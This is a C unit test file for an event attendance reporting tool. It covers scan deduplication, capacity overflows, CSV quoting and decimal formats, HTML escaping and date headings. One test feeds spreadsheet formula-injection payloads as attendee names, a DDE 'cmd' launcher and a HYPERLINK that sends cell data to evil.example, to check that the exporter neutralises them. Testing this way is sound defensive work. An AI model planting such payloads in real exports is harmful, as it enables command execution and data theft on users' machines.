/* SPDX-License-Identifier: Apache-2.0 */
/* The report core in-process: the same set of scans in any order and with copies gives the
 * same bytes; what the event does not know is left out and counted; staff are not counted;
 * an admission counts until the session's end; CSV separators, quoting, decimal commas, BOM. */
#include <stdlib.h>
#include <unistd.h>

#include "check.h"
#include "csv.h"
#include "event.h"
#include "report.h"
#include "roster.h"
#include "timeutil.h"
#include "util.h"
#include "event_db.h"
#include "file.h"
#include "report_out.h"
#include "roster_db.h"

#define MIN INT64_C(60000)

static struct event *ev;
static int64_t t9; /* 2024-04-22T09:00:00+02:00: s-aula-am runs 09:00-10:30 */

/* Fills a badge scan. */
static struct scan badge(const char *device, int64_t seq, const char *room, const char *who,
                         enum scan_result result, enum scan_reason reason)
{
    struct scan s = {0};
    snprintf(s.device_id, sizeof s.device_id, "%s", device);
    s.db_epoch = 5;
    s.seq = seq;
    snprintf(s.room, sizeof s.room, "%s", room);
    snprintf(s.attendee, sizeof s.attendee, "%s", who);
    s.kind = SCAN_BADGE;
    s.result = result;
    s.reason = reason;
    s.clock_synced = true;
    return s;
}

static struct scan scans[16];
static int64_t times[16];
static size_t n;

static void add(struct scan s, int64_t t)
{
    scans[n] = s;
    times[n++] = t;
}

/* Returns every CSV and the page, concatenated, for a log made from scans in the given order
 * (reversed when rev) with each scan added copies times. */
static char *render(bool rev, int copies, struct report **out)
{
    struct report_log *log = report_log_create();
    for (int c = 0; c < copies; c++) {
        for (size_t k = 0; k < n; k++) {
            size_t i = rev ? n - 1 - k : k;
            report_log_add(log, &scans[i], times[i]);
        }
    }
    struct report *r = report_compute(ev, log);
    struct report_csv_format f = {',', false, false, NULL};
    struct strbuf sb = {0};
    char *parts[] = {report_attendance_csv(r, &f), report_attendees_csv(r, &f),
                     report_occupancy_csv(r, &f), report_arrivals_csv(r, &f), report_html(r)};
    for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
        strbuf_puts(&sb, parts[i]);
        free(parts[i]);
    }
    report_log_destroy(log);
    if (out != NULL)
        *out = r;
    else
        report_destroy(r);
    return strbuf_take(&sb);
}

static void test_semantics(void)
{
    size_t am = event_session_index(ev, "s-aula-am");
    size_t a1 = 0, a7 = 0;
    for (size_t a = 0; a < ev->n_attendees; a++) {
        if (strcmp(ev->attendees[a].id, "A0001") == 0)
            a1 = a;
        if (strcmp(ev->attendees[a].id, "A0007") == 0)
            a7 = a;
    }
    add(badge("e", 1, "entrance", "A0001", RESULT_ADMITTED, REASON_OK), t9 - 30 * MIN);
    add(badge("d", 1, "aula", "A0001", RESULT_ADMITTED, REASON_OK), t9 - 5 * MIN);
    add(badge("d", 2, "aula", "A0004", RESULT_ADMITTED, REASON_OK), t9 + 10 * MIN);
    add(badge("d", 3, "aula", "A0004", RESULT_EXITED, REASON_OK), t9 + 40 * MIN);
    add(badge("d", 4, "aula", "A0007", RESULT_ADMITTED, REASON_OK), t9);      /* staff */
    add(badge("d", 5, "aula", "A0009", RESULT_DENIED, REASON_ROOM_FULL), t9); /* refused */
    add(badge("d", 6, "aula", "A0009", RESULT_DENIED, REASON_ROOM_FULL), t9 + MIN);
    add(badge("d", 7, "nowhere", "A0001", RESULT_ADMITTED, REASON_OK), t9); /* unknown room */
    add(badge("d", 8, "aula", "Z9999", RESULT_ADMITTED, REASON_OK), t9);    /* unknown badge */
    struct report *r;
    char *forward = render(false, 1, &r);
    char *backward = render(true, 3, NULL);
    CHECK(strcmp(forward, backward) == 0);
    free(backward);
    free(forward);

    const struct report_session *rs = &r->sessions[am];
    CHECK(r->unknown_scans == 2);
    CHECK(r->scans == n);
    CHECK(rs->attended == 2); /* A0001, A0004; not staff A0007 */
    CHECK(rs->peak == 2 && rs->peak_ms == t9 + 10 * MIN);
    CHECK(rs->refused_full == 1);                               /* one person, twice */
    CHECK(r->present_ms[a1 * ev->n_sessions + am] == 90 * MIN); /* from the start to the end */
    CHECK(r->present_ms[a7 * ev->n_sessions + am] == 90 * MIN); /* tracked, not counted */
    CHECK(rs->median_present_ms == (90 * MIN + 30 * MIN) / 2);
    CHECK(r->checked_in == 1 && r->attendees[a1].checked_in_ms == t9 - 30 * MIN);
    /* A0001 registered for s-aula-am (attended) and s-zaal3-am (checked in, absent) */
    size_t z3 = event_session_index(ev, "s-zaal3-am");
    CHECK(r->sessions[z3].no_shows == 1);
    /* the aula column of the slot at 09:10: two people (staff not counted) */
    size_t slot = (size_t)((t9 + 10 * MIN - r->slot0_ms) / REPORT_SLOT_MS);
    size_t aula = event_room_index(ev, "aula");
    CHECK(r->occupancy[slot * (ev->n_rooms + 1) + aula] == 2);
    /* after the session's end the admission has expired */
    slot = (size_t)((t9 + 95 * MIN - r->slot0_ms) / REPORT_SLOT_MS);
    CHECK(r->occupancy[slot * (ev->n_rooms + 1) + aula] == 0);
    report_destroy(r);
}

/* Admissions that take a room past its capacity are listed, with the door that let them in. */
static void test_over_capacity(void)
{
    n = 0;
    size_t lab = event_room_index(ev, "lab.1"); /* 12 seats, no session in the morning */
    int admitted = 0;
    for (int i = 1; admitted < ev->rooms[lab].capacity + 1; i++) {
        char who[16];
        snprintf(who, sizeof who, "A%04d", i);
        const struct attendee *a = event_attendee_by_id(ev, who);
        if (a == NULL || a->category == CATEGORY_STAFF)
            continue;
        admitted++;
        /* the last one at the other door, which had not seen the others */
        const char *door = admitted > ev->rooms[lab].capacity ? "d2" : "d1";
        add(badge(door, i, "lab.1", who, RESULT_ADMITTED, REASON_OK), t9 + i * MIN);
    }
    struct report *r;
    char *all = render(false, 1, &r);
    free(all);
    CHECK(r->n_overflows == 1);
    if (r->n_overflows == 1) {
        CHECK(r->overflows[0].count == ev->rooms[lab].capacity + 1);
        CHECK_STR(r->overflows[0].device, "d2");
        CHECK(!r->overflows[0].override);
    }
    struct report_csv_format f = {',', false, false, NULL};
    char *csv = report_over_capacity_csv(r, &f);
    CHECK(strstr(csv, ",lab.1,,13,12,") != NULL && strstr(csv, ",d2,no\r\n") != NULL);
    char *html = report_html(r);
    CHECK(strstr(html, "doors out of touch") != NULL);
    free(html);
    free(csv);
    report_destroy(r);
    n = 0;
}

static void test_csv_format(void)
{
    struct report_log *log = report_log_create();
    struct report *r = report_compute(ev, log);
    CHECK(r->scans == 0 && r->n_slots > 0);
    struct report_csv_format f = {';', true, false, NULL};
    char *text = report_attendance_csv(r, &f);
    CHECK(strncmp(text, "\xEF\xBB\xBFsession;room;title;", 22) == 0);
    CHECK(strstr(text, ";\"Panel: privacy, safety and events\";") == NULL); /* no ';' inside */
    CHECK(strstr(text, ";Panel: privacy, safety and events;") != NULL);
    CHECK(strstr(text, ";\"Workshop \"\"hands-on\"\" kiosks\";") != NULL);
    CHECK(strstr(text, ";0,0;") != NULL); /* decimal comma */
    CHECK(strstr(text, "\r\n") != NULL);
    free(text);
    f.sep = ',';
    f.bom = false;
    text = report_attendance_csv(r, &f);
    CHECK(text[0] == 's');
    CHECK(strstr(text, ",\"Panel: privacy, safety and events\",") != NULL);
    CHECK(strstr(text, ",0.0,") != NULL);
    free(text);
    report_destroy(r);
    report_log_destroy(log);

    char buf[32];
    report_format_minutes(0, false, buf);
    CHECK_STR(buf, "0.0");
    report_format_minutes(2999, false, buf);
    CHECK_STR(buf, "0.0");
    report_format_minutes(3000, false, buf);
    CHECK_STR(buf, "0.1");
    report_format_minutes(90 * MIN + 30000, true, buf);
    CHECK_STR(buf, "90,5");
    struct strbuf sb = {0};
    report_html_escape(&sb, "<a href=\"x\">&</a>");
    CHECK_STR(sb.data, "&lt;a href=&quot;x&quot;&gt;&amp;&lt;/a&gt;");
    strbuf_finish(&sb);
}

/* Moves the event's sessions 1 and 2 by days1 and days2 days (back with negative days). */
static void move_sessions(int days1, int days2)
{
    int64_t shift[] = {days1 * 24 * 60 * MIN, days2 * 24 * 60 * MIN};
    for (size_t i = 0; i < ARRAY_LEN(shift); i++) {
        ev->sessions[i + 1].start_ms += shift[i];
        ev->sessions[i + 1].end_ms += shift[i];
    }
}

/* Whether the page in lang, for the event with sessions 1 and 2 moved by days1 and days2
 * days, names the event's days as want in its heading (checked). */
static void heading_names(enum language lang, int days1, int days2, const char *want)
{
    move_sessions(days1, days2);
    struct report_log *log = report_log_create();
    struct report *r = report_compute(ev, log);
    char *html = report_html_lang(r, lang);
    char *when = xasprintf("<div class=\"when\">%s<br>", want);
    CHECK_MSG(strstr(html, when) != NULL, "no %s in %.*s", when, 120,
              strstr(html, "<div class=\"when\">"));
    move_sessions(-days1, -days2);
    free(when);
    free(html);
    report_destroy(r);
    report_log_destroy(log);
}

/* How many times needle is in haystack. */
static size_t occurrences(const char *haystack, const char *needle)
{
    size_t k = 0;
    for (const char *p = strstr(haystack, needle); p != NULL; p = strstr(p + 1, needle))
        k++;
    return k;
}

/* A two-day event: its charts a set per day, each day's arrivals its own (who comes back the
 * next day arrives again), and the times of its tables with their date. */
static void test_day_charts(void)
{
    move_sessions(1, 1);
    n = 0;
    add(badge("e", 1, "entrance", "A0001", RESULT_ADMITTED, REASON_OK), t9 - 30 * MIN);
    add(badge("e", 2, "entrance", "A0001", RESULT_ADMITTED, REASON_OK), t9 + 24 * 60 * MIN);
    struct report *r;
    char *all = render(false, 1, &r);
    char *html = report_html(r);
    CHECK(occurrences(html, "<h3 class=\"day\">Monday 22 April 2024</h3>") == 2);
    CHECK(occurrences(html, "<h3 class=\"day\">Tuesday 23 April 2024</h3>") == 2);
    CHECK(strstr(html, "checked in so far that day") != NULL);
    /* A bar on each day's arrivals chart. */
    CHECK_MSG(occurrences(html, "fill=\"#2f6fbd\"/>") == 2, "%zu bars",
              occurrences(html, "fill=\"#2f6fbd\"/>"));
    CHECK(strstr(html, "<td>2024-04-22 ") != NULL && strstr(html, "<td>2024-04-23 ") != NULL);
    CHECK(strstr(html, "<div class=\"s\">at 2024-04-2") != NULL);
    free(html);
    free(all);
    report_destroy(r);
    move_sessions(-1, -1);
    n = 0;
}

/* The heading names the event's day, or the span of its days as organisers write it. */
static void test_heading_days(void)
{
    heading_names(LANG_EN, 0, 0, "Monday 22 April 2024");
    heading_names(LANG_EN, 1, 0, "22–23 April 2024");
    heading_names(LANG_EN, 1, 2, "22–24 April 2024");
    heading_names(LANG_NL, 1, 2, "22–24 april 2024");
    heading_names(LANG_FR, 2, 1, "22–24 avril 2024");
    heading_names(LANG_EN, 4, 9, "22 April – 1 May 2024");
    heading_names(LANG_FR, 4, 9, "22 avril – 1 mai 2024");
    heading_names(LANG_EN, 100, 254, "22 April 2024 – 1 January 2025");
}

/* Names, organisations, titles and room names are isolated in report.html: a right-to-left
 * name does not reorder the cells and punctuation beside it. */
static void test_html_isolation(void)
{
    struct report_log *log = report_log_create();
    struct report *r = report_compute(ev, log);
    char *html = report_html(r);
    CHECK(strstr(html, "<td><bdi>\xD9\x85\xD8\xAD\xD9\x85\xD8\xAF</bdi></td>") != NULL);
    CHECK(strstr(html, "<td><bdi>Hanoi Tech</bdi></td>") != NULL);
    CHECK(strstr(html, "<h1><bdi>Core</bdi></h1>") != NULL);
    CHECK(strstr(html, "<h3><bdi>") != NULL);
    free(html);
    report_destroy(r);
    report_log_destroy(log);
}

/* Replaces a string of the event in memory. */
static void set_text(char **field, const char *text)
{
    free(*field);
    *field = xstrdup(text);
}

/* True when some cell of a CSV text starts with c (a field after a separator or a line start,
 * quoted or not). */
static bool some_cell_starts_with(const char *csv, char c)
{
    for (const char *p = csv; *p != '\0'; p++) {
        bool start = p == csv || p[-1] == ',' || p[-1] == '\n';
        if (start && (*p == c || (*p == '"' && p[1] == c)))
            return true;
    }
    return false;
}

/* Names, organisations and titles that a spreadsheet would run as formulas reach the CSV files
 * as text, behind a single quote; number columns keep their sign. */
static void test_formula_cells(void)
{
    set_text(&ev->attendees[0].name, "=cmd|' /C calc'!A0");
    set_text(&ev->attendees[1].name, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    set_text(&ev->attendees[2].organisation, "+32 2 555 01 01");
    set_text(&ev->attendees[3].organisation, "@SUM(A1:A9)");
    set_text(&ev->attendees[4].name, "-2+3");
    set_text(&ev->sessions[0].title, "=1+1");
    struct report_log *log = report_log_create();
    struct report *r = report_compute(ev, log);
    struct report_csv_format f = {',', false, false, NULL};
    char *people = report_attendees_csv(r, &f), *sessions = report_attendance_csv(r, &f);
    CHECK(strstr(people, ",'=cmd|' /C calc'!A0,") != NULL);
    CHECK(strstr(people, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",") !=
          NULL);
    CHECK(strstr(people, ",'+32 2 555 01 01,") != NULL);
    CHECK(strstr(people, ",'@SUM(A1:A9),") != NULL);
    CHECK(strstr(people, ",'-2+3,") != NULL);
    CHECK(strstr(sessions, ",'=1+1,") != NULL);
    const char *starts = "=+-@"; /* tab and CR cannot be in names (roster.c refuses them) */
    for (const char *c = starts; *c != '\0'; c++) {
        CHECK_MSG(!some_cell_starts_with(people, *c), "a cell of attendees.csv starts with %c", *c);
        CHECK_MSG(!some_cell_starts_with(sessions, *c), "a cell of attendance.csv starts with %c",
                  *c);
    }
    CHECK(strstr(sessions, ",0,") != NULL); /* counts stay numbers */
    free(people);
    free(sessions);
    report_destroy(r);
    report_log_destroy(log);

    CHECK(csv_is_formula("=A1") && csv_is_formula("+1") && csv_is_formula("-1") &&
          csv_is_formula("@x") && csv_is_formula("\tx") && csv_is_formula("\rx"));
    CHECK(!csv_is_formula("") && !csv_is_formula("Ann") && !csv_is_formula(" =x") &&
          !csv_is_formula("A=1"));
}

int main(void)
{
    const char *data = getenv("PORTIER_TEST_DATA");
    char tmpl[] = "/tmp/portier-report-core-XXXXXX";
    char *dir = mkdtemp(tmpl);
    char *ev_dir = path_join(dir, "ev"), *rooms = xasprintf("%s/event/rooms.csv", data);
    char *sessions = xasprintf("%s/event/sessions.csv", data);
    char *people = xasprintf("%s/event/attendees.csv", data);
    CHECK(roster_init_event(ev_dir, "Core", "Europe/Brussels", rooms, sessions, people, NULL));
    char *db = path_join(ev_dir, EVENT_DB_NAME);
    ev = event_load(db);
    CHECK(ev != NULL);
    CHECK(time_parse_iso8601("2024-04-22T09:00:00+02:00", &t9));
    if (ev != NULL) {
        test_semantics();
        test_over_capacity();
        test_csv_format();
        test_html_isolation();
        test_heading_days();
        test_day_charts();
        test_formula_cells();
    }
    event_destroy(ev);
    char *cmd = xasprintf("rm -rf %s", dir);
    CHECK(system(cmd) == 0);
    free(cmd);
    free(db);
    free(ev_dir);
    free(rooms);
    free(sessions);
    free(people);
    return check_done();
}
